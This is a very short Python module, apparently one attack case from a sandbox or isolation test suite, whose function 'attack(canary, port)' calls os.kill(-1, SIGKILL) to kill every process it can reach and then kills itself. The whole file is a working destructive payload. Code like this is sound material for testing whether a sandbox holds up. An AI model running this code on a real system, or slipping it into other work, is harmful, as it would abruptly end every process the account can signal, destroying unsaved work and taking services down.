"""Kills every process that it can."""

import contextlib
import os
import signal


def attack(canary, port):
    with contextlib.suppress(OSError):
        os.kill(-1, signal.SIGKILL)
    os.kill(os.getpid(), signal.SIGKILL)
